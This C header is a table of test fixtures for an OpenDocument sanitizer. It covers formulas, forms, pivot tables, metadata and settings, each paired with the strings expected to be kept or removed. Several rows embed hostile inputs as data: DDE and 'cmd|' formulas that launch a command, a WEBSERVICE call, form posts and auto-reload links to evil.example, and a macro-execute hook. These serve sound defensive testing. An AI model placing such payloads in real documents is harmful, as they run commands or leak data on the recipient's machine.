/* SPDX-License-Identifier: Apache-2.0
 *
 * The rows of test-odf-values.c: formulas, sheets, forms, notes, settings.
 */
#ifndef SK_TEST_ODF_VALUE_ROWS_H
#define SK_TEST_ODF_VALUE_ROWS_H

#include "odf-table.h"

/* clang-format off: a table */
static const OdfRow rows[] = {
    { .name = "formula/sum",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=SUM([.A1:."
          "B2];&quot;x&quot;;2.5)*IF([$'シート 1'.$A$1]>0;1;{1;2|3;4})\" of"
          "fice:value-type=\"float\" office:value=\"7\"><text:p>7</text:p><"
          "/table:table-cell></table:table-row></table:table></office:sprea"
          "dsheet></office:body>",
      .kept = { "table:formula=\"of:=SUM([.A1:.B2];&quot;x&quot;;2.5)*IF(" },
      .counts = "" },
    { .name = "formula/external",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=['file:///"
          "c:/a.ods'#$Sheet1.A1]\" office:value-type=\"float\" office:value"
          "=\"7\"><text:p>7</text:p></table:table-cell></table:table-row></"
          "table:table></office:spreadsheet></office:body>",
      .kept = { "office:value=\"7\"" },
      .gone = { "a.ods" },
      .counts = "formula=1" },
    { .name = "formula/dde",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=DDE(&quot;"
          "cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\" office:value-type"
          "=\"float\" office:value=\"7\"><text:p>7</text:p></table:table-ce"
          "ll></table:table-row></table:table></office:spreadsheet></office"
          ":body>",
      .kept = { "office:value=\"7\"" },
      .gone = { "calc" },
      .counts = "formula=1" },
    { .name = "formula/webservice",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=WEBSERVICE"
          "(&quot;http://evil.example/q&quot;)\" office:value-type=\"float"
          "\" office:value=\"7\"><text:p>7</text:p></table:table-cell></tab"
          "le:table-row></table:table></office:spreadsheet></office:body>",
      .kept = { "office:value=\"7\"" },
      .gone = { "evil.example/q" },
      .counts = "formula=1" },
    { .name = "formula/pipe",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=cmd|'/c ca"
          "lc'!A0\" office:value-type=\"float\" office:value=\"7\"><text:p>"
          "7</text:p></table:table-cell></table:table-row></table:table></o"
          "ffice:spreadsheet></office:body>",
      .gone = { "calc" },
      .counts = "formula=1" },
    { .name = "formula/other-language",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"evil:=1+1\" of"
          "fice:value-type=\"float\" office:value=\"7\"><text:p>7</text:p><"
          "/table:table-cell></table:table-row></table:table></office:sprea"
          "dsheet></office:body>",
      .kept = { "office:value=\"7\"" },
      .gone = { "1+1" },
      .counts = "formula=1" },
    { .name = "formula/policy",
      .type = "spreadsheet",
      .settings = "",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "table:table-row><table:table-cell table:formula=\"of:=SUM([.A1])"
          "\" office:value-type=\"float\" office:value=\"7\"><text:p>7</tex"
          "t:p></table:table-cell></table:table-row></table:table></office:"
          "spreadsheet></office:body>",
      .kept = { "office:value=\"7\"" },
      .gone = { "SUM" },
      .counts = "formula=1" },
    { .name = "formula/name",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"/>"
          "<table:named-expressions><table:named-range table:name=\"ok\" ta"
          "ble:base-cell-address=\"$S.$A$1\" table:cell-range-address=\"$S."
          "$A$1:.$B$2\"/><table:named-expression table:name=\"bad\" table:b"
          "ase-cell-address=\"$S.$A$1\" table:expression=\"of:DDE(&quot;a&q"
          "uot;;&quot;b&quot;;&quot;c&quot;)\"/></table:named-expressions><"
          "/office:spreadsheet></office:body>",
      .kept = { "table:name=\"ok\"" },
      .gone = { "bad",
                "DDE" },
      .counts = "formula=1" },
    { .name = "formula/validation",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:content-validations><tab"
          "le:content-validation table:name=\"v\" table:condition=\"of:cell"
          "-content-is-in-list(&quot;a&quot;;&quot;b&quot;)\"><table:error-"
          "macro table:execute=\"true\"/></table:content-validation></table"
          ":content-validations><table:table table:name=\"S\"/></office:spr"
          "eadsheet></office:body>",
      .kept = { "cell-content-is-in-list" },
      .gone = { "macro" },
      .counts = "event-handler=1 unknown-attribute=1" },
    { .name = "formula/conditional",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"><"
          "calcext:conditional-formats><calcext:conditional-format calcext:"
          "target-range-address=\"S.A1:S.A9\"><calcext:condition calcext:ap"
          "ply-style-name=\"a\" calcext:value=\"formula-is([.A1]&gt;3)\" ca"
          "lcext:base-cell-address=\"S.A1\"/><calcext:condition calcext:val"
          "ue=\"formula-is(WEBSERVICE(&quot;x&quot;))\"/></calcext:conditio"
          "nal-format></calcext:conditional-formats></table:table></office:"
          "spreadsheet></office:body>",
      .kept = { "formula-is([.A1]&gt;3)" },
      .gone = { "WEBSERVICE" },
      .counts = "formula=1" },
    { .name = "formula/field",
      .type = "text",
      .content =
          "<office:body><office:text><text:p><text:variable-set text:formul"
          "a=\"ooow:1+2\" office:value=\"3\">3</text:variable-set><text:exp"
          "ression text:formula=\"ooow:a.b.c\">4</text:expression></text:p>"
          "</office:text></office:body>",
      .kept = { "text:formula=\"ooow:1+2\"",
                ">4<" },
      .gone = { "a.b.c" },
      .counts = "formula=1" },
    { .name = "formula/geometry",
      .type = "text",
      .content =
          "<office:body><office:text><text:p><draw:custom-shape><draw:enhan"
          "ced-geometry draw:type=\"x\"><draw:equation draw:name=\"f0\" dra"
          "w:formula=\"$0 *sin(?f1)/2\"/></draw:enhanced-geometry></draw:cu"
          "stom-shape></text:p></office:text></office:body>",
      .kept = { "draw:formula=\"$0 *sin(?f1)/2\"" },
      .counts = "" },
    { .name = "sheet/pivot-database",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"/>"
          "<table:data-pilot-tables><table:data-pilot-table table:name=\"a"
          "\" table:target-range-address=\"S.A1\"><table:source-cell-range "
          "table:cell-range-address=\"S.A1:S.B9\"/></table:data-pilot-table"
          "><table:data-pilot-table table:name=\"gone\"><table:source-servi"
          "ce table:name=\"x\" table:source-name=\"y\" table:object-name=\""
          "z\"/></table:data-pilot-table></table:data-pilot-tables></office"
          ":spreadsheet></office:body>",
      .kept = { "table:name=\"a\"" },
      .gone = { "gone",
                "source-service" },
      .counts = "database=1 unknown-attribute=3" },
    { .name = "sheet/database-range",
      .type = "spreadsheet",
      .content =
          "<office:body><office:spreadsheet><table:table table:name=\"S\"/>"
          "<table:database-ranges><table:database-range table:name=\"d\" ta"
          "ble:target-range-address=\"S.A1:S.B9\"><table:database-source-sq"
          "l table:database-name=\"n\" table:sql-statement=\"select\"/></ta"
          "ble:database-range></table:database-ranges></office:spreadsheet>"
          "</office:body>",
      .kept = { "table:name=\"d\"" },
      .gone = { "select" },
      .counts = "database=1 unknown-attribute=2" },
    { .name = "form/actions",
      .type = "text",
      .content =
          "<office:body><office:text><office:forms><form:form form:name=\"f"
          "\" xlink:href=\"http://evil.example/post\" form:method=\"post\" "
          "form:datasource=\"db\"><form:button form:name=\"b\" form:label="
          "\"L\" form:button-type=\"submit\" xlink:href=\"http://evil.examp"
          "le/b\"/><form:checkbox form:name=\"c\" form:current-state=\"chec"
          "ked\"/></form:form></office:forms><text:p><draw:control draw:con"
          "trol=\"c\"/></text:p></office:text></office:body>",
      .kept = { "form:label=\"L\"",
                "form:current-state=\"checked\"",
                "<draw:control draw:control=\"c\"/>" },
      .gone = { "evil.example/p",
                "submit",
                "datasource" },
      .counts = "form=1 unknown-attribute=4" },
    { .name = "form/policy",
      .type = "text",
      .settings = "",
      .content =
          "<office:body><office:text><office:forms><form:form form:name=\"f"
          "\"/></office:forms><text:p>a<draw:control draw:control=\"c\"/></"
          "text:p></office:text></office:body>",
      .kept = { "<text:p>a</text:p>" },
      .gone = { "form:" },
      .counts = "form=1" },
    { .name = "field/word",
      .type = "text",
      .content =
          "<office:body><office:text><text:p><field:fieldmark-start text:na"
          "me=\"a\" field:type=\"vnd.oasis.opendocument.field.FORMTEXT\"><f"
          "ield:param field:name=\"Name\" field:value=\"n\"/></field:fieldm"
          "ark-start>in<field:fieldmark-end/><field:fieldmark-start field:t"
          "ype=\"vnd.oasis.opendocument.field.UNHANDLED\"><field:param fiel"
          "d:name=\"vnd.oasis.opendocument.field.code\" field:value=\"INCLU"
          "DETEXT x\"/></field:fieldmark-start>last<field:fieldmark-end/></"
          "text:p></office:text></office:body>",
      .kept = { "FORMTEXT\"><field:param field:name=\"Name\" field:value=\""
                "n\"/></field:fieldmark-start>in<field:fieldmark-end/>last<" },
      .gone = { "INCLUDETEXT" },
      .counts = "field=1" },
    { .name = "note/keep",
      .type = "text",
      .content =
          "<office:body><office:text><text:p>a<office:annotation><dc:creato"
          "r>C</dc:creator><text:p>n</text:p></office:annotation></text:p><"
          "/office:text></office:body>",
      .kept = { "<office:annotation><dc:creator>C</dc:creator><text:p>n" },
      .counts = "" },
    { .name = "note/policy",
      .type = "text",
      .settings = "",
      .content =
          "<office:body><office:text><text:tracked-changes><text:changed-re"
          "gion text:id=\"c\"><text:deletion><text:p>old</text:p></text:del"
          "etion></text:changed-region></text:tracked-changes><text:p>a<tex"
          "t:change text:change-id=\"c\"/><office:annotation><text:p>n</tex"
          "t:p></office:annotation></text:p></office:text></office:body>",
      .kept = { "<text:p>a</text:p>" },
      .gone = { "old",
                ">n<" },
      .counts = "comment=1 tracked-change=1" },
    { .name = "meta/fields",
      .type = "text",
      .content =
          "<office:body><office:text><text:p><text:title>T</text:title></te"
          "xt:p></office:text></office:body>",
      .more = { { "meta.xml",
                  "<office:document-meta@@><office:meta><dc:title>T</dc:tit"
                  "le><meta:generator>gen</meta:generator><meta:template xl"
                  "ink:href=\"http://evil.example/t.ott\"/><meta:auto-reloa"
                  "d xlink:href=\"http://evil.example/r\"/><meta:user-defin"
                  "ed meta:name=\"k\">v</meta:user-defined></office:meta></"
                  "office:document-meta>" } },
      .kept = { "<dc:title>T</dc:title>",
                "<meta:generator>gen</meta:generator>",
                "text:fixed=\"true\">T" },
      .gone = { "evil.example",
                "reload" },
      .counts = "external-target=2 metadata=1 unknown-attribute=1" },
    { .name = "meta/policy",
      .type = "text",
      .settings = "",
      .content =
          "<office:body><office:text><text:p/></office:text></office:body>",
      .more = { { "meta.xml",
                  "<office:document-meta@@><office:meta><dc:title>T</dc:tit"
                  "le></office:meta></office:document-meta>" } },
      .gone = { "meta.xml" },
      .counts = "metadata=1" },
    { .name = "settings/list",
      .type = "text",
      .content =
          "<office:body><office:text><text:p/></office:text></office:body>",
      .more = { { "settings.xml",
                  "<office:document-settings@@><office:settings><config:con"
                  "fig-item-set config:name=\"ooo:configuration-settings\">"
                  "<config:config-item config:name=\"AddParaTableSpacing\" "
                  "config:type=\"boolean\">true</config:config-item><config"
                  ":config-item config:name=\"PrinterName\" config:type=\"s"
                  "tring\">p</config:config-item><config:config-item config"
                  ":name=\"LinkUpdateMode\" config:type=\"short\">2</config"
                  ":config-item><config:config-item config:name=\"CurrentDa"
                  "tabaseDataSource\" config:type=\"string\">d</config:conf"
                  "ig-item><config:config-item config:name=\"ZoomFactor\" c"
                  "onfig:type=\"string\">http://x</config:config-item></con"
                  "fig:config-item-set></office:settings></office:document-"
                  "settings>" } },
      .kept = { "AddParaTableSpacing\"" },
      .gone = { "PrinterName",
                "LinkUpdate",
                "//x<",
                "CurrentData" },
      .counts = "setting=4" },
    { .name = "form/filled-in",
      .type = "text",
      .settings = "",
      .content =
          "<office:body><office:text><office:forms><form:form form:name=\"f"
          "\"><form:text form:id=\"a\" form:current-value=\"山田\"/><form:c"
          "heckbox xml:id=\"b\" form:label=\"同意\" form:current-state=\"ch"
          "ecked\"/><form:listbox form:id=\"c\"><form:option form:label=\""
          "男\" form:current-selected=\"true\"/><form:option form:label=\""
          "女\"/></form:listbox><form:password form:id=\"d\" form:value=\""
          "秘密\"/></form:form></office:forms><text:p><draw:control draw:co"
          "ntrol=\"a\" text:anchor-type=\"as-char\" svg:width=\"3cm\"/><dra"
          "w:control draw:control=\"b\"/><draw:control draw:control=\"c\"/>"
          "<draw:control draw:control=\"d\"/></text:p></office:text></offic"
          "e:body>",
      .kept = { "<draw:frame text:anchor-type=\"as-char\" svg:width=\"3cm\""
                "><draw:text-box><text:p>山田</text:p></draw:text-box></dra"
                "w:frame>",
                "☑同意",
                ">男<" },
      .gone = { "form:",
                "女",
                "秘密" },
      .counts = "form=4" },
};
/* clang-format on */

#endif
